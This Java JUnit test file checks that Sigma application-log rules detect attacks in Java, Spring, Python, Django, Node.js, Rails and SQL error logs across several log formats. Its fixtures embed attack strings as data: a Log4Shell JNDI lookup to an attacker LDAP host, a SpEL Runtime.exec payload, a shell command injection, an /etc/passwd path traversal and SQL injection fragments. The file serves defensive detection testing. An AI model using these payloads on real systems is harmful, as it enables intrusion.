package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.fired;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.firedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingested;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.json;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.routedLogsources;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.rules;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.wazuhLines;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.sigma.domain.Logsource;
import io.socaas.correlation.sigma.domain.SigmaRule;
import io.socaas.events.syslog.MalformedLogException;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * SigmaHQ's application rules (category application: jvm, spring, velocity, python, django, nodejs,
 * ruby_on_rails, sql) over applications' error logs as they arrive: a Java, Python or Node.js
 * application's stack trace as a shipper's multiline event, as syslog with rsyslog's escapes, one
 * line at a time, as GELF or as a logging library's JSON; PHP's errors in nginx's error log; an
 * ASP.NET error in the Windows Application log. Each rule fires on the error it describes, and the
 * same text outside an application's log (a Log4Shell string in an sshd or web access line) or a
 * benign trace of another application reaches none of them. Without the corpus ({@code
 * SOCAAS_CORPUS}) the tests are skipped.
 */
class ApplicationLogsourcesTest {

    private static final Logsource JVM = new Logsource("jvm", "application", null);
    private static final Logsource SPRING = new Logsource("spring", "application", null);
    private static final Logsource VELOCITY = new Logsource("velocity", "application", null);
    private static final Logsource PYTHON = new Logsource("python", "application", null);
    private static final Logsource DJANGO = new Logsource("django", "application", null);
    private static final Logsource NODEJS = new Logsource("nodejs", "application", null);
    private static final Logsource RAILS = new Logsource("ruby_on_rails", "application", null);
    private static final Logsource SQL = new Logsource("sql", "application", null);
    private static final List<Logsource> APPLICATIONS =
            List.of(JVM, SPRING, VELOCITY, PYTHON, DJANGO, NODEJS, RAILS, SQL);

    private static final String JNDI = "rules/application/jvm/java_jndi_injection_exploitation_attempt.yml";
    private static final String JAVA_RCE = "rules/application/jvm/java_rce_exploitation_attempt.yml";
    private static final String JAVA_FILE_READ = "rules/application/jvm/java_local_file_read.yml";
    private static final String OGNL = "rules/application/jvm/java_ognl_injection_exploitation_attempt.yml";
    private static final String XXE = "rules/application/jvm/java_xxe_exploitation_attempt.yml";
    private static final String SPEL = "rules/application/spring/spring_spel_injection.yml";
    private static final String SPRING_EXCEPTIONS = "rules/application/spring/spring_application_exceptions.yml";
    private static final String VELOCITY_SSTI = "rules/application/velocity/velocity_ssti_injection.yml";
    private static final String PYTHON_SQL = "rules/application/python/app_python_sql_exceptions.yml";
    private static final String DJANGO_EXCEPTIONS = "rules/application/django/appframework_django_exceptions.yml";
    private static final String NODE_RCE = "rules/application/nodejs/nodejs_rce_exploitation_attempt.yml";
    private static final String RAILS_EXCEPTIONS = "rules/application/ruby/appframework_ruby_on_rails_exceptions.yml";
    private static final String SQL_ERRORS = "rules/application/sql/app_sqlinjection_errors.yml";
    private static final String WEB_LOG4SHELL =
            "rules-emerging-threats/2021/Exploits/CVE-2021-44228/web_cve_2021_44228_log4j.yml";

    /**
     * Log4j 2's status logger when a {@code ${jndi:ldap://...}} lookup in a logged value cannot
     * reach the attacker's LDAP server (CVE-2021-44228), the trace the advisories' reproductions
     * show, as Tomcat's catalina.out holds it.
     */
    private static final String LOG4SHELL_TRACE = String.join(
            "\n",
            "2021-12-10 13:41:56,201 http-nio-8080-exec-1 WARN Error looking up JNDI resource"
                    + " [ldap://198.51.100.7:1389/Exploit]. javax.naming.CommunicationException: 198.51.100.7:1389"
                    + " [Root exception is java.net.ConnectException: Connection refused (Connection refused)]",
            "\tat com.sun.jndi.ldap.Connection.<init>(Connection.java:238)",
            "\tat com.sun.jndi.ldap.LdapClient.<init>(LdapClient.java:137)",
            "\tat com.sun.jndi.ldap.LdapClient.getInstance(LdapClient.java:1609)",
            "\tat com.sun.jndi.ldap.LdapCtx.connect(LdapCtx.java:2749)",
            "\tat com.sun.jndi.ldap.LdapCtx.<init>(LdapCtx.java:319)",
            "\tat com.sun.jndi.url.ldap.ldapURLContextFactory.getUsingURLIgnoreRootDN(ldapURLContextFactory.java:60)",
            "\tat com.sun.jndi.url.ldap.ldapURLContext.getRootURLContext(ldapURLContext.java:61)",
            "\tat com.sun.jndi.toolkit.url.GenericURLContext.lookup(GenericURLContext.java:202)",
            "\tat javax.naming.InitialContext.lookup(InitialContext.java:417)",
            "\tat org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172)",
            "\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)");

    /** Kafka failing to write a checkpoint file it has no permission on: a Java trace of no attack. */
    private static final String KAFKA_ACCESS_DENIED = String.join(
            "\n",
            "[2026-03-01 10:00:00,123] ERROR Error while writing to checkpoint file"
                    + " /var/lib/kafka/data/recovery-point-offset-checkpoint (kafka.server.LogDirFailureChannel)",
            "java.nio.file.AccessDeniedException: /var/lib/kafka/data/recovery-point-offset-checkpoint.tmp",
            "\tat java.base/sun.nio.fs.UnixException.translateToIOException(UnixException.java:90)",
            "\tat java.base/sun.nio.fs.UnixException.rethrowAsIOException(UnixException.java:106)",
            "\tat java.base/sun.nio.fs.UnixFileSystemProvider.newByteChannel(UnixFileSystemProvider.java:218)",
            "\tat java.base/java.nio.file.Files.newByteChannel(Files.java:380)",
            "\tat org.apache.kafka.server.common.CheckpointFile.write(CheckpointFile.java:79)");

    /** A Filebeat event of a multiline log file's entry (its `message`, the file and the host). */
    private static String filebeat(String path, String message) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("@timestamp", "2026-03-01T10:00:00.123Z");
        event.put("message", message);
        event.put("log", Map.of("file", Map.of("path", path), "flags", List.of("multiline")));
        event.put("host", Map.of("name", "app01"));
        return json(event);
    }

    /** A syslog line of a program whose multiline message rsyslog escaped (#012 newline, #011 tab). */
    private static String rsyslog(String program, String message) {
        return "<11>Mar  1 10:00:00 app01 " + program + "[812]: "
                + message.replace("\n", "#012").replace("\t", "#011");
    }

    @Test
    void aLog4ShellLookupInAJavaApplicationsLogFiresTheJndiRuleWhicheverWayTheLogArrives() {
        assumeCorpus();
        String jndi = id(JNDI);
        // a shipper's multiline event of the log file
        String file = filebeat("/opt/tomcat/logs/catalina.out", LOG4SHELL_TRACE);
        assertThat(logsources(ingestedJson(file))).contains(JVM).doesNotContain(SPRING, PYTHON, DJANGO, NODEJS, RAILS);
        assertThat(firedJson(file)).contains(jndi);
        // syslog of a program known by no name: the frames tell it is Java
        assertThat(fired(rsyslog("inventory-svc", LOG4SHELL_TRACE))).contains(jndi);
        // the trace shipped line by line: a frame alone is still a Java application's line
        String frame = "<11>Mar  1 10:00:00 app01 inventory-svc[812]: \tat"
                + " org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172)";
        assertThat(logsources(ingested(frame))).contains(JVM);
        assertThat(fired(frame)).contains(jndi);
        // logback-gelf: the trace in full_message
        Map<String, Object> gelf = new LinkedHashMap<>();
        gelf.put("version", "1.1");
        gelf.put("host", "app01");
        gelf.put("short_message", "Error looking up JNDI resource [ldap://198.51.100.7:1389/Exploit]");
        gelf.put("full_message", LOG4SHELL_TRACE);
        gelf.put("timestamp", 1639143716.201);
        gelf.put("level", 4);
        gelf.put("_logger_name", "org.apache.logging.log4j.status.StatusLogger");
        gelf.put("_thread_name", "http-nio-8080-exec-1");
        assertThat(firedJson(json(gelf))).contains(jndi);
    }

    @Test
    void aJavaLoggingLibrarysJsonIsAJavaApplicationsLogByItsFields() {
        assumeCorpus();
        // logstash-logback-encoder (its field names; level_value is logback's number of the level)
        Map<String, Object> logback = new LinkedHashMap<>();
        logback.put("@timestamp", "2026-03-01T10:05:00.120Z");
        logback.put("@version", "1");
        logback.put("message", "Could not start the report renderer");
        logback.put("logger_name", "com.acme.reports.Renderer");
        logback.put("thread_name", "http-nio-8080-exec-4");
        logback.put("level", "ERROR");
        logback.put("level_value", 40000);
        logback.put(
                "stack_trace",
                "java.io.IOException: Cannot run program \"/bin/sh\": error=13, Permission denied\n"
                        + "\tat java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1143)\n"
                        + "\tat com.acme.reports.Renderer.convert(Renderer.java:88)");
        assertThat(logsources(ingestedJson(json(logback)))).contains(JVM, SQL);
        assertThat(firedJson(json(logback))).contains(id(JAVA_RCE));
        // Log4j 2's JsonLayout: the trace as a list of frame objects, no text of a frame; its fields tell
        Map<String, Object> log4j = new LinkedHashMap<>();
        log4j.put("instant", Map.of("epochSecond", 1772359500, "nanoOfSecond", 0));
        log4j.put("thread", "http-nio-8080-exec-2");
        log4j.put("level", "ERROR");
        log4j.put("loggerName", "org.apache.struts2.dispatcher.Dispatcher");
        log4j.put("message", "Exception occurred during processing request: ognl expression");
        log4j.put(
                "thrown",
                Map.of(
                        "name", "org.apache.commons.ognl.OgnlException",
                        "message", "source is null for getProperty(null, \"class\")",
                        "extendedStackTrace",
                                List.of(Map.of(
                                        "class", "org.apache.commons.ognl.OgnlRuntime",
                                        "method", "getProperty",
                                        "file", "OgnlRuntime.java",
                                        "line", 2419))));
        log4j.put("endOfBatch", false);
        log4j.put("loggerFqcn", "org.apache.logging.log4j.spi.AbstractLogger");
        assertThat(logsources(ingestedJson(json(log4j)))).contains(JVM);
        assertThat(firedJson(json(log4j))).contains(id(OGNL));
    }

    @Test
    void javaErrorsOfFileReadsOutsideTheApplicationAndOfXmlParsingFireTheirRules() {
        assumeCorpus();
        String traversal = filebeat(
                "/var/log/app/app.log",
                String.join(
                        "\n",
                        "2026-03-01 10:06:00.481 ERROR [http-nio-8080-exec-9] c.a.s.DownloadController - download failed",
                        "java.io.FileNotFoundException: /opt/app/static/../../../../etc/passwd (Permission denied)",
                        "\tat java.base/java.io.FileInputStream.open0(Native Method)",
                        "\tat java.base/java.io.FileInputStream.open(FileInputStream.java:216)",
                        "\tat com.acme.shop.DownloadController.file(DownloadController.java:41)"));
        assertThat(firedJson(traversal)).contains(id(JAVA_FILE_READ));
        // a missing file without a path climbing out is no traversal
        assertThat(firedJson(traversal.replace("/../../../..", "/img"))).doesNotContain(id(JAVA_FILE_READ));
        String xxe = filebeat(
                "/var/log/app/app.log",
                String.join(
                        "\n",
                        "2026-03-01 10:07:00.002 ERROR [http-nio-8080-exec-2] c.a.i.ImportController - import failed",
                        "org.xml.sax.SAXParseException; lineNumber: 1; columnNumber: 10; DOCTYPE is disallowed when the"
                                + " feature \"http://apache.org/xml/features/disallow-doctype-decl\" set to true.",
                        "\tat java.xml/com.sun.org.apache.xerces.internal.util.ErrorHandlerWrapper"
                                + ".createSAXParseException(ErrorHandlerWrapper.java:204)",
                        "\tat com.acme.imports.ImportController.parse(ImportController.java:63)"));
        assertThat(firedJson(xxe)).contains(id(XXE));
    }

    @Test
    void aBenignJavaTraceIsAJavaApplicationsLogOnWhichNoRuleFires() {
        assumeCorpus();
        Set<String> applicationRules =
                rules(r -> "application".equals(r.source().category()));
        String kafka = filebeat("/var/log/kafka/server.log", KAFKA_ACCESS_DENIED);
        assertThat(logsources(ingestedJson(kafka))).contains(JVM).doesNotContain(SPRING, VELOCITY);
        // java.nio.file's AccessDeniedException is no Spring Security exception: Kafka is no Spring application
        assertThat(firedJson(kafka)).doesNotContainAnyElementsOf(applicationRules);
        String npe = rsyslog(
                "billing",
                "java.lang.NullPointerException: Cannot invoke \"com.acme.Invoice.total()\" because \"invoice\" is null\n"
                        + "\tat com.acme.billing.InvoiceService.close(InvoiceService.java:57)");
        assertThat(logsources(ingested(npe))).contains(JVM);
        assertThat(fired(npe)).doesNotContainAnyElementsOf(applicationRules);
    }

    @Test
    void aLog4ShellStringOutsideAJavaApplicationsLogIsNoJavaError() {
        assumeCorpus();
        String jndi = id(JNDI);
        // an SSH scanner's user name carrying the payload, even with the JNDI class's package in it
        String sshd =
                "<38>Mar  1 10:00:00 web01 sshd[2211]: Invalid user ${jndi:ldap://198.51.100.7:1389/com.sun.jndi.ldap.Obj}"
                        + " from 198.51.100.7 port 50122";
        assertThat(logsources(ingested(sshd))).doesNotContainAnyElementsOf(APPLICATIONS);
        assertThat(fired(sshd)).doesNotContain(jndi);
        // a web access line of the request: the web server's Log4Shell rule sees it, the JVM's does not
        String access = "198.51.100.7 - - [01/Mar/2026:10:00:00 +0000] \"GET /?q=com.sun.jndi.ldap. HTTP/1.1\" 200 612"
                + " \"-\" \"${jndi:ldap://198.51.100.7:1389/Exploit}\"";
        assertThat(logsources(ingested(access))).doesNotContainAnyElementsOf(APPLICATIONS);
        assertThat(fired(access)).contains(id(WEB_LOG4SHELL)).doesNotContain(jndi);
    }

    @Test
    void aSpelInjectionErrorOfASpringBootApplicationFiresTheSpelRule() {
        assumeCorpus();
        // Spring Boot's console line and Tomcat's dispatcher error with the expression's exception
        // (Expression [...] @position: message, as Spring's ExpressionException words it), as
        // Docker's json-file driver and Fluent Bit's multiline parser ship a container's output
        String spel = String.join(
                "\n",
                "2026-03-01T10:15:42.311Z ERROR 1 --- [nio-8080-exec-7] o.a.c.c.C.[.[.[/].[dispatcherServlet]    :"
                        + " Servlet.service() for servlet [dispatcherServlet] threw exception",
                "org.springframework.expression.ExpressionException: Expression [T(java.lang.Runtime).getRuntime()"
                        + ".exec('id')] @0: EL1005E: Type cannot be found 'java.lang.Runtime'",
                "\tat org.springframework.expression.spel.support.StandardTypeLocator.findType(StandardTypeLocator.java:117)",
                "\tat org.springframework.cloud.function.context.config.RoutingFunction.route(RoutingFunction.java:125)");
        String container = json(Map.of("log", spel, "stream", "stderr", "time", "2026-03-01T10:15:42.311Z"));
        assertThat(logsources(ingestedJson(container))).contains(SPRING, JVM);
        assertThat(firedJson(container)).contains(id(SPEL));
        // Spring Security refusing a request: one console line, no trace; a Spring Boot line all the same
        String rejected = json(Map.of(
                "log",
                "2026-03-01T10:16:03.902Z  WARN 1 --- [nio-8080-exec-3] o.s.s.w.f.RequestRejectedHandler         :"
                        + " Rejecting request due to: The request was rejected because the URL contained a"
                        + " potentially malicious String \"//\" (RequestRejectedException)",
                "stream",
                "stdout"));
        assertThat(logsources(ingestedJson(rejected))).contains(SPRING);
        assertThat(firedJson(rejected)).contains(id(SPRING_EXCEPTIONS));
    }

    @Test
    void aVelocityTemplateErrorOfAnApplicationFiresTheVelocityRule() {
        assumeCorpus();
        // a template injection attempt against Confluence (CVE-2023-22527) failing to parse
        String confluence = filebeat(
                "/var/atlassian/application-data/confluence/logs/atlassian-confluence.log",
                String.join(
                        "\n",
                        "2026-03-01 10:20:11,734 ERROR [http-nio-8090-exec-4] [atlassian.confluence.util.velocity"
                                + ".VelocityUtils] getRenderedTemplateWithoutSwallowingErrors Error rendering template",
                        "org.apache.velocity.exception.ParseErrorException: Encountered \"#set(\" at"
                                + " /template/aui/text-inline.vm[line 1, column 23]",
                        "\tat org.apache.velocity.Template.process(Template.java:154)",
                        "\tat com.atlassian.confluence.util.velocity.VelocityUtils.getRenderedTemplate(VelocityUtils.java:78)"));
        assertThat(logsources(ingestedJson(confluence))).contains(VELOCITY, JVM);
        assertThat(firedJson(confluence)).contains(id(VELOCITY_SSTI));
        // a Java parse error of another library is no Velocity error
        String other = filebeat(
                "/var/log/app/app.log",
                "com.acme.rules.ParseErrorException: unexpected token\n\tat com.acme.rules.Parser.read(Parser.java:19)");
        assertThat(logsources(ingestedJson(other))).contains(JVM).doesNotContain(VELOCITY);
        assertThat(firedJson(other)).doesNotContain(id(VELOCITY_SSTI));
    }

    /**
     * A Django view's query failing on an injected quote (psycopg2 raising, Django wrapping it), as
     * Python prints the chained traceback.
     */
    private static final String DJANGO_SQL_TRACEBACK = String.join(
            "\n",
            "Internal Server Error: /shop/item",
            "Traceback (most recent call last):",
            "  File \"/usr/local/lib/python3.12/site-packages/django/db/backends/utils.py\", line 105, in _execute",
            "    return self.cursor.execute(sql, params)",
            "psycopg2.errors.SyntaxError: unterminated quoted string at or near \"'1'' ORDER BY 1--\"",
            "LINE 1: SELECT * FROM shop_item WHERE id = '1'' ORDER BY 1--",
            "",
            "The above exception was the direct cause of the following exception:",
            "",
            "Traceback (most recent call last):",
            "  File \"/app/shop/views.py\", line 31, in item",
            "    cursor.execute(\"SELECT * FROM shop_item WHERE id = '%s'\" % request.GET[\"id\"])",
            "django.db.utils.ProgrammingError: unterminated quoted string at or near \"'1'' ORDER BY 1--\"");

    @Test
    void aPythonTracebackOfASqlErrorFiresThePythonRule() {
        assumeCorpus();
        String gunicorn = filebeat("/var/log/gunicorn/error.log", DJANGO_SQL_TRACEBACK);
        assertThat(logsources(ingestedJson(gunicorn)))
                .contains(PYTHON, DJANGO, SQL)
                .doesNotContain(JVM);
        assertThat(firedJson(gunicorn)).contains(id(PYTHON_SQL)).doesNotContain(id(DJANGO_EXCEPTIONS));
        // SQLite's syntax error through Python's sqlite3: the SQL error rule sees it too
        String sqlite = rsyslog(
                "inventory",
                "Traceback (most recent call last):\n  File \"/srv/inventory/db.py\", line 22, in find\n"
                        + "    cur.execute(\"SELECT * FROM items WHERE name = '\" + name + \"'\")\n"
                        + "sqlite3.OperationalError: near \"x\": syntax error");
        assertThat(fired(sqlite)).contains(id(PYTHON_SQL), id(SQL_ERRORS));
    }

    @Test
    void djangosSecurityLoggerFiresTheDjangoRuleAndAnotherPythonApplicationsPermissionDeniedDoesNot() {
        assumeCorpus();
        String django = id(DJANGO_EXCEPTIONS);
        // LOGGING's formatter "[%(asctime)s] %(levelname)s %(name)s: %(message)s"
        String disallowed = rsyslog(
                "gunicorn",
                "[2026-03-01 10:30:00,101] ERROR django.security.DisallowedHost: Invalid HTTP_HOST header:"
                        + " 'evil.example'. You may need to add 'evil.example' to ALLOWED_HOSTS.");
        assertThat(logsources(ingested(disallowed))).contains(DJANGO, PYTHON);
        assertThat(fired(disallowed)).contains(django);
        // Google Cloud's client library refusing a Flask application: its PermissionDenied is no Django exception
        String gcp = filebeat(
                "/var/log/app/error.log",
                String.join(
                        "\n",
                        "Traceback (most recent call last):",
                        "  File \"/app/main.py\", line 41, in secret",
                        "    response = client.access_secret_version(request={\"name\": name})",
                        "google.api_core.exceptions.PermissionDenied: 403 Permission"
                                + " 'secretmanager.versions.access' denied for resource"));
        assertThat(logsources(ingestedJson(gcp))).contains(PYTHON).doesNotContain(DJANGO);
        assertThat(firedJson(gcp)).doesNotContain(django);
    }

    @Test
    void aNodeApplicationsChildProcessErrorFiresTheNodeRule() {
        assumeCorpus();
        String node = id(NODE_RCE);
        // pino's JSON with the error's stack (a command injection failing in execSync)
        Map<String, Object> pino = new LinkedHashMap<>();
        pino.put("level", 50);
        pino.put("time", 1772360400000L);
        pino.put("pid", 1);
        pino.put("hostname", "api-7d9f6c");
        pino.put(
                "err",
                Map.of(
                        "type", "Error",
                        "message", "Command failed: ping -c 1 127.0.0.1; id",
                        "stack",
                                String.join(
                                        "\n",
                                        "Error: Command failed: ping -c 1 127.0.0.1; id",
                                        "    at genericNodeError (node:internal/errors:984:15)",
                                        "    at checkExecSyncError (node:child_process:891:11)",
                                        "    at execSync (node:child_process:963:15)",
                                        "    at /app/routes/ping.js:14:20")));
        pino.put("msg", "ping failed");
        assertThat(logsources(ingestedJson(json(pino)))).contains(NODEJS);
        assertThat(firedJson(json(pino))).contains(node);
        // a refused connection of the same application: Node's trace, no child process
        pino.put(
                "err",
                Map.of(
                        "type", "Error",
                        "message", "connect ECONNREFUSED 10.0.0.5:5432",
                        "stack",
                                "Error: connect ECONNREFUSED 10.0.0.5:5432\n"
                                        + "    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1595:16)\n"
                                        + "    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)"));
        assertThat(logsources(ingestedJson(json(pino)))).contains(NODEJS);
        assertThat(firedJson(json(pino))).doesNotContain(node);
    }

    @Test
    void aRailsRequestWithAForgedCsrfTokenFiresTheRailsRule() {
        assumeCorpus();
        String rails = id(RAILS_EXCEPTIONS);
        // production.log in Ruby's Logger format, ActionDispatch::DebugExceptions' line of the exception
        String forged = "F, [2026-03-01T10:40:00.123456 #1] FATAL -- : [5f1c2b9e-8d7a-4c1e-9b0f-2a6e4d3c1b00]"
                + " ActionController::InvalidAuthenticityToken (Can't verify CSRF token authenticity.):";
        assertThat(logsources(ingested(forged))).contains(RAILS);
        assertThat(fired(forged)).contains(rails);
        // the request's completion is no error
        String completed = "I, [2026-03-01T10:40:01.002003 #1]  INFO -- : [5f1c2b9e-8d7a-4c1e-9b0f-2a6e4d3c1b00]"
                + " Completed 200 OK in 12ms (Views: 8.1ms | ActiveRecord: 1.2ms | Allocations: 4012)";
        assertThat(fired(completed)).doesNotContain(rails);
    }

    @Test
    void sqlSyntaxErrorsAnApplicationReportsFireTheSqlRuleWhereverTheyAreLogged() {
        assumeCorpus();
        String sql = id(SQL_ERRORS);
        // PHP-FPM's error through nginx's error log (FastCGI sent in stderr: "PHP message: ...")
        String php = "2026/03/01 10:50:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Fatal error:"
                + "  Uncaught PDOException: SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error"
                + " in your SQL syntax; check the manual that corresponds to your MySQL server version for the right"
                + " syntax to use near ''1''' at line 1 in /var/www/html/item.php:12\" while reading response header"
                + " from upstream, client: 203.0.113.9, server: shop.example, request: \"GET /item.php?id=1%27 HTTP/1.1\","
                + " upstream: \"fastcgi://unix:/run/php/php8.2-fpm.sock:\", host: \"shop.example\"";
        assertThat(logsources(ingested(php))).contains(SQL).doesNotContain(JVM, PYTHON);
        assertThat(fired(php)).contains(sql);
        // a Java application's JDBC error (MySQL Connector/J)
        String jdbc = filebeat(
                "/var/log/app/app.log",
                "java.sql.SQLSyntaxErrorException: You have an error in your SQL syntax; check the manual that"
                        + " corresponds to your MySQL server version for the right syntax to use near ''1'''\n"
                        + "\tat com.mysql.cj.jdbc.exceptions.SQLError.createSQLException(SQLError.java:120)");
        assertThat(firedJson(jdbc)).contains(sql);
        // ASP.NET's unhandled exception in the Windows Application log (event 1309)
        String aspnet = """
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "ASP.NET 4.0.30319.0"}}, "EventID": 1309,
                  "Channel": "Application", "Computer": "web02"},
                 "EventData": {"Data": ["3005", "An unhandled exception has occurred.", "Exception type: SqlException",
                  "Exception message: Unclosed quotation mark after the character string ''."]}}}""";
        assertThat(logsources(ingestedJson(aspnet))).contains(SQL);
        assertThat(firedJson(aspnet)).contains(sql);
        // the phrase in a web access line's user agent is a request, not an application's error
        String access = "203.0.113.9 - - [01/Mar/2026:10:50:00 +0000] \"GET /item.php HTTP/1.1\" 200 612 \"-\""
                + " \"You have an error in your SQL syntax\"";
        assertThat(logsources(ingested(access))).doesNotContain(SQL);
        assertThat(fired(access)).doesNotContain(sql);
    }

    @Test
    @SuppressWarnings("unchecked")
    void aWindowsChannelsRecordIsNoApplicationsLogWhateverItsMessageHolds() throws Exception {
        // Sysmon's record of the Zone.Identifier stream of a downloaded Java source, as Winlogbeat ships
        // it: its rendered message holds ".java:" as a Java stack frame does
        String sysmon = """
                {"@timestamp": "2026-03-01T10:00:00.000Z",
                 "message": "File stream created:\\nRuleName: -\\nUtcTime: 2026-03-01 10:00:00.000\\nProcessId: 4242\\nImage: C:\\\\Program Files\\\\Mozilla Firefox\\\\firefox.exe\\nTargetFilename: C:\\\\Users\\\\dana\\\\Downloads\\\\Exploit.java:Zone.Identifier",
                 "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 15,
                  "provider_name": "Microsoft-Windows-Sysmon", "computer_name": "WS-DANA",
                  "event_data": {"Image": "C:\\\\Program Files\\\\Mozilla Firefox\\\\firefox.exe",
                   "TargetFilename": "C:\\\\Users\\\\dana\\\\Downloads\\\\Exploit.java:Zone.Identifier"}}}""";
        Map<String, Object> record = IngestedEvents.JSON.readValue(sysmon, Map.class);
        assertThat(logsources(record))
                .contains(new Logsource("windows", "create_stream_hash", "sysmon"))
                .doesNotContainAnyElementsOf(APPLICATIONS);
        // the same message in a log of no Windows channel reads as a Java frame
        Map<String, Object> unchanneled = new LinkedHashMap<>(record);
        unchanneled.remove("winlog");
        assertThat(logsources(unchanneled)).contains(JVM);
        // an ASP.NET error of the Application channel is the one Windows log of applications: sql only
        Map<String, Object> application = new LinkedHashMap<>(record);
        application.put(
                "winlog", Map.of("channel", "Application", "event_id", 1309, "provider_name", "ASP.NET 4.0.30319.0"));
        assertThat(logsources(application)).contains(SQL).doesNotContain(JVM);
    }

    @Test
    void everyApplicationRuleOfTheCorpusHasASource() {
        assumeCorpus();
        List<SigmaRule> application = IngestedEvents.RULES.entrySet().stream()
                .filter(e -> e.getKey().startsWith("rules/application/"))
                .filter(e -> Set.of("jvm", "spring", "velocity", "python", "django", "nodejs", "ruby_on_rails", "sql")
                        .contains(e.getValue().source().product()))
                .map(Map.Entry::getValue)
                .toList();
        assertThat(application).hasSize(13);
        List<Logsource> routed = routedLogsources();
        assertThat(application)
                .allSatisfy(
                        rule -> assertThat(routed).anyMatch(l -> rule.source().covers(l)));
    }

    @Test
    void noneOfWazuhsRealLinesIsAnApplicationsLogButPhpErrorsAndTheWindowsApplicationLog() {
        assumeCorpus();
        // 1548 lines of some 80 products (firewalls, VPNs, web servers, sshd, cloud audit logs), as
        // a line intake takes them (it refuses the few that hold several JSON documents)
        List<String> routedToSql = new java.util.ArrayList<>();
        int read = 0;
        for (String line : wazuhLines(l -> true)) {
            List<Logsource> sources;
            try {
                sources = logsources(ingested(line));
            } catch (MalformedLogException refused) {
                continue;
            }
            read++;
            assertThat(sources).as(line).doesNotContain(JVM, SPRING, VELOCITY, PYTHON, DJANGO, NODEJS, RAILS);
            if (sources.contains(SQL)) {
                routedToSql.add(line);
            }
        }
        assertThat(read).isGreaterThan(1300);
        // PHP's errors in a web server's error log, and the Windows Application log (as Wazuh's agent
        // forwards it): applications' errors, where SQL errors are written
        assertThat(routedToSql)
                .anyMatch(l -> l.contains("PHP "))
                .allMatch(l -> l.contains("PHP ") || l.contains("WinEvtLog: Application:"));
    }
}
